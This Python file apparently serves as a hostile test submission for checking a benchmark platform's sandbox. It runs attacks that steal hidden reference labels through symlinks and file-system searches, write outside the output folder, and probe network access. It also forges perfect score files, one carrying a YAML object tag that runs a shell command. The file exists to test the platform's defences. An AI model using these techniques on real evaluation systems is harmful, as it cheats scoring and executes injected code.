"""Hostile participant code: each attack of README.md, standard library only.

This file travels inside every hostile submission zip (``build.py`` puts it there). Two ways in:

* digits-ingestion-v2 (code submission): ``model.py`` subclasses :class:`Model` and names its
  attack; the ingestion program imports it, so the attack runs in ``fit`` inside the ingestion
  process, with the ingestion program's arguments in ``sys.argv`` (input data, output, submission).
* iris-v2 (result bundle): the zip's ``metadata`` has ``command: python3 /app/program/attacks.py
  ATTACK``; the worker runs it as the participant's own program during the prediction step. It
  copies the honest ``predictions.csv`` to ``/app/output``, then attacks.

Every finding goes to stderr as one line ``HOSTILE <attack>: <what>`` and to
``hostile-report.json`` in the output folder. Nothing here deletes or modifies an existing file:
writes use new, fixed names (``aibench-hostile-*``) created with O_EXCL, so whoever runs these can
find and remove them. RUN ONLY INSIDE A CONTAINER OR A SANDBOX.
"""

import atexit
import csv
import json
import os
import socket
import sys
import time

PROBE = "aibench-hostile-probe.txt"
METADATA_TARGET = "/tmp/aibench-hostile-metadata-target"
HOST_SENTINEL = "/tmp/aibench-hostile-host-sentinel.txt"  # the harness may create it on the host
PORT = 47123  # the harness may listen on it (127.0.0.1 and the docker bridge gateway)
REPORT = {}


def say(attack, what):
    REPORT.setdefault(attack, []).append(what)
    print(f"HOSTILE {attack}: {what}", file=sys.stderr, flush=True)


def mounts():
    """{mount point: path inside its file system (the host path for a bind of the root fs)}."""
    found = {}
    try:
        with open("/proc/self/mountinfo") as handle:
            for line in handle:
                fields = line.split()
                found[fields[4]] = fields[3]
    except OSError:
        pass
    return found


def host_paths():
    """Host paths of this process's /app/* (or run-folder) mounts, and their parents."""
    paths = []
    for point, root in mounts().items():
        if root not in ("/", "") and (point.startswith("/app") or "output" in point):
            for candidate in (root, os.path.dirname(root), os.path.dirname(os.path.dirname(root))):
                if candidate not in paths:
                    paths.append(candidate)
    return paths


def output_source():
    """Host path of this process's output folder, if mountinfo shows it."""
    info = mounts()
    return info.get("/app/output") or next((r for p, r in info.items() if p.endswith("/output")), None)


def whoami(out):
    status = {}
    try:
        with open("/proc/self/status") as handle:
            status = dict(line.split(":", 1) for line in handle if ":" in line)
    except OSError:
        pass
    say("whoami", f"uid={os.getuid()} gid={os.getgid()} CapEff={status.get('CapEff', '?').strip()} "
                  f"cwd={os.getcwd()} argv={sys.argv[1:]} output={out} output_source={output_source()}")


def make_links(attack, out, targets):
    for name, target in targets.items():
        try:
            os.symlink(target, os.path.join(out, name))
            say(attack, f"{name} -> {target}")
        except OSError as error:
            say(attack, f"{name}: {error}")


def link_to_ref(out):
    """(a) links in the output to host files by absolute path; predictions.csv itself becomes a link
    to the run's labels (host path from mountinfo) at exit."""
    source = output_source()
    make_links("link-to-ref", out, {"link-host-sentinel.txt": HOST_SENTINEL, "link-etc-hostname": "/etc/hostname"})
    best = "/app/input/ref/labels.csv"
    if source and source.endswith("/prediction/output"):  # aibench: <run>/prediction/output, <run>/bundle/reference_data
        best = os.path.join(os.path.dirname(os.path.dirname(source)), "bundle", "reference_data", "labels.csv")
    elif source:  # Codabench: <run>/output, <run>/input/ref
        best = os.path.join(os.path.dirname(source), "input", "ref", "labels.csv")

    def swap():  # after the ingestion program wrote its predictions.csv
        path = os.path.join(out, "predictions.csv")
        try:
            if os.path.lexists(path):
                os.unlink(path)
            os.symlink(best, path)
            say("link-to-ref", f"predictions.csv -> {best}")
        except OSError as error:
            say("link-to-ref", f"predictions.csv: {error}")
    return swap


def link_at_scoring(out):
    """(a') links that resolve only where the scoring step sees the labels, if links survive."""
    make_links("link-at-scoring", out, {
        "link-app-ref.csv": "/app/input/ref/labels.csv",   # in the scoring container
        "link-rel-res.csv": "../ref/labels.csv",           # from /app/input/res, or <run>/input/res
        "link-rel-run.csv": "../input/ref/labels.csv",     # from <run>/output on a host
    })


def metadata_link(out):
    """(b) output/metadata is a dangling link: whoever writes the worker's metadata creates the target."""
    try:
        os.symlink(METADATA_TARGET, os.path.join(out, "metadata"))
        say("metadata-link", f"metadata -> {METADATA_TARGET}")
    except OSError as error:
        say("metadata-link", f"metadata: {error}")


def find_labels(deadline_s=15.0, max_depth=7):
    """(c) walk the file system for reference labels; return {id: label} of the best file."""
    skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/boot", "/var/lib/docker",
            "/var/cache", "/snap"}
    start, best, seen = time.monotonic(), {}, 0
    roots = ["/app"] + host_paths() + ["/"]
    for root in roots:
        for folder, subfolders, files in os.walk(root):
            if time.monotonic() - start > deadline_s:
                say("glob-labels", f"gave up after {deadline_s} s ({seen} files looked at)")
                return best
            depth = folder.count(os.sep)
            subfolders[:] = [s for s in subfolders if os.path.join(folder, s) not in skip and depth < max_depth
                             and not s.startswith(".")]
            for name in files:
                seen += 1
                if name in ("labels.csv", "targets.csv") or (name.endswith(".csv") and "ref" in folder):
                    path = os.path.join(folder, name)
                    try:
                        with open(path, newline="") as handle:
                            rows = list(csv.DictReader(handle))
                    except (OSError, UnicodeDecodeError, csv.Error):
                        continue
                    if rows and "id" in rows[0] and "label" in rows[0] and len(rows) > len(best):
                        best = {row["id"]: row["label"] for row in rows}
                        say("glob-labels", f"read {len(rows)} labels from {path}")
        if best:
            return best
    say("glob-labels", f"no labels found ({seen} files looked at)")
    return best


def write_outside(out):
    """(d) create a probe file in every folder but the output; report which writes worked."""
    folders = ["/app/program", "/app/ingested_program", "/app/input_data", "/app/data", "/app/input",
               "/app/shared", "/etc", "/root", "/tmp", "/var/tmp", "/"] + host_paths()
    for folder in folders:
        if os.path.realpath(folder) == os.path.realpath(out) or not os.path.isdir(folder):
            continue
        try:
            fd = os.open(os.path.join(folder, PROBE), os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
            os.write(fd, b"written by a hostile submission\n")
            os.close(fd)
            say("write-outside", f"WROTE {folder}/{PROBE}")
        except OSError as error:
            say("write-outside", f"denied {folder}: {error.strerror}")


def gateway():
    try:
        with open("/proc/net/route") as handle:
            for line in list(handle)[1:]:
                fields = line.split()
                if fields[1] == "00000000":
                    return socket.inet_ntoa(int(fields[2], 16).to_bytes(4, "little"))
    except (OSError, IndexError, ValueError):
        pass
    return None


def network(out):
    """(e) TCP to a server on the host's loopback, the bridge gateway, and the internet."""
    for host, port in (("127.0.0.1", PORT), (gateway(), PORT), ("pypi.org", 443)):
        if not host:
            continue
        try:
            with socket.create_connection((host, port), timeout=5) as conn:
                conn.sendall(b"hostile hello\n")
                say("network", f"CONNECTED {host}:{port}")
        except OSError as error:
            say("network", f"no {host}:{port}: {error}")


def scores_in_output(out):
    """(h) score files in the prediction output: they must never be taken as the scores."""
    with open(os.path.join(out, "scores.json"), "w") as handle:
        json.dump({"accuracy": 1.0, "duration": 0.0}, handle)
    with open(os.path.join(out, "scores.txt"), "w") as handle:
        handle.write("accuracy: 1.0\nduration: 0.0\n"
                     "x: !!python/object/apply:os.system ['touch /tmp/aibench-hostile-yaml-ran']\n")
    say("scores-in-output", "wrote scores.json and scores.txt (accuracy 1.0, a YAML object tag) into the output")


ATTACKS = {"link-to-ref": link_to_ref, "link-at-scoring": link_at_scoring, "metadata-link": metadata_link, "write-outside": write_outside,
           "network": network, "scores-in-output": scores_in_output, "glob-labels": None,
           "zip-bomb": None, "many-files": None}


def attack(name, out):
    """Run one attack against the output folder ``out``; return the labels found, if any."""
    whoami(out)
    labels = {}
    if name == "glob-labels":
        labels = find_labels()
    elif ATTACKS.get(name):
        after = ATTACKS[name](out)
        if after:
            atexit.register(after)
    atexit.register(write_report, out)
    return labels


def write_report(out):
    try:
        with open(os.path.join(out, "hostile-report.json"), "w") as handle:
            json.dump(REPORT, handle, indent=1)
    except OSError as error:
        print(f"HOSTILE report: {error}", file=sys.stderr)


class Model:
    """digits-ingestion-v2: the attack runs in fit; predict answers all zeros (accuracy 0.1) unless
    the attack found the labels."""

    ATTACK = "whoami"

    def fit(self, X, y):
        self.output = sys.argv[2] if len(sys.argv) > 2 else "/app/output"
        self.labels = attack(self.ATTACK, self.output)
        return self

    def predict(self, X):
        if not self.labels:
            return [0 for _ in X]
        with open(os.path.join(sys.argv[1], "test.csv"), newline="") as handle:
            ids = [row["id"] for row in csv.DictReader(handle)]
        return [self.labels.get(key, 0) for key in ids]


def main(name):
    """iris-v2: the participant's own program of the prediction step."""
    out = "/app/output"
    here = os.path.dirname(os.path.abspath(__file__))
    labels = attack(name, out)
    with open(os.path.join(here, "predictions.csv"), newline="") as handle:
        rows = list(csv.reader(handle))
    if labels:
        rows = [rows[0]] + [[row[0], labels.get(row[0], row[1])] for row in rows[1:]]
    path = os.path.join(out, "predictions.csv")
    if not os.path.lexists(path):
        with open(path, "w", newline="") as handle:
            csv.writer(handle, lineterminator="\n").writerows(rows)


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "whoami")
